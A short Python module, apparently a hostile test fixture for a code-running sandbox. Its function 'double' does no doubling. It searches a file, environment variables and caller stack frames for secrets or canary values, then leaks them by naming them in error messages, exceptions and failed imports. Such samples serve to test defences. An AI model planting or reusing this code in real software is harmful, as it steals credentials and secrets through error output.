"""Carries a secret out in the names that error messages quote: an undefined name, a missing attribute, module and key, one each call."""
# bites: secret
import importlib
import os
import sys

CALLS = []


def loot():
    """Whatever secret can be reached: a file, the environment, or the variables of a caller."""
    try:
        return open("/tmp/hostile-secret.txt").read().strip()
    except OSError:
        pass
    for name, value in os.environ.items():
        if "SECRET" in name:
            return value
    frame = sys._getframe()
    while frame is not None:
        for name in [*frame.f_globals, *map(str, frame.f_code.co_consts)]:
            if len(name) > 20 and "canary_" in name and name.isidentifier():
                return name
        frame = frame.f_back
    return "nothing_found"


def double(x):
    CALLS.append(1)
    word = loot()
    if len(CALLS) % 5 == 1:
        return eval(word, {})
    if len(CALLS) % 5 == 2:
        return getattr(x, word)
    if len(CALLS) % 5 == 3:
        return importlib.import_module(word)
    if len(CALLS) % 5 == 4:
        raise NotImplementedError(word + ": write it")
    return {}[word]
